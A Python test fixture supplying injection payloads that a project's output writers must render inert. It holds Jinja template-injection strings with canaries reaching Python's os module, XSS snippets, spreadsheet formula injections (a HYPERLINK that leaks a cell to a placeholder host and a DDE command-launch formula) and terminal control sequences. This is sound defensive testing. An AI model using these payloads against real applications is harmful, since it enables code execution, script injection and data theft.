"""Hostile strings for the injection tests: each must come out of every writer as inert text.

Template payloads include two canaries that create a directory if a name is ever rendered as a
Jinja template: one with the directory's absolute path, one without quotes (which survives
HTML escaping of quotes) creating ``range`` in the current directory.  Tests run in
``tmp_path`` (``monkeypatch.chdir``) and check both directories are absent afterwards.
"""

from __future__ import annotations

from pathlib import Path

#: Jinja expressions and statements (the directory canaries are added by :func:`payloads`).
JINJA = ["{{7*7}}", "{% raw %}", "{#", "{{ config }}{% for x in range(3) %}{{x}}{% endfor %}"]
#: HTML and JavaScript.
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "</script><script>alert(1)</script>",
    "${alert(1)}`'\\",
]
#: Spreadsheet formulas (CSV/Excel injection).
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(1)",
    "\t=1",
]
#: Terminal escape sequences and a right-to-left override.
CONTROL = ["\x1b[31mred\x1b[0m", "\u202eevil"]
#: As long as a name may be (gridcarbon.names.MAX_NAME_LENGTH).
LONG = ["名" * 200]


def canaries(tmp_path: Path) -> list[str]:
    """Template payloads that would create ``tmp_path/pwned`` or ``./range``."""
    return [
        "{{ lipsum.__globals__.os.mkdir('" + (tmp_path / "pwned").as_posix() + "') }}",
        "{{ cycler.__init__.__globals__.os.mkdir(range.__name__) }}",
    ]


def canary_fired(tmp_path: Path) -> list[str]:
    """The canary directories that exist (the test's working directory must be ``tmp_path``)."""
    return [n for n in ("pwned", "range") if (tmp_path / n).exists()]


def payloads(tmp_path: Path, control: bool = True) -> list[str]:
    """Every payload; ``control=False`` leaves out the control characters (refused in codes)."""
    return [
        *JINJA,
        *canaries(tmp_path),
        *HTML,
        *FORMULAS,
        *(CONTROL if control else []),
        *LONG,
    ]
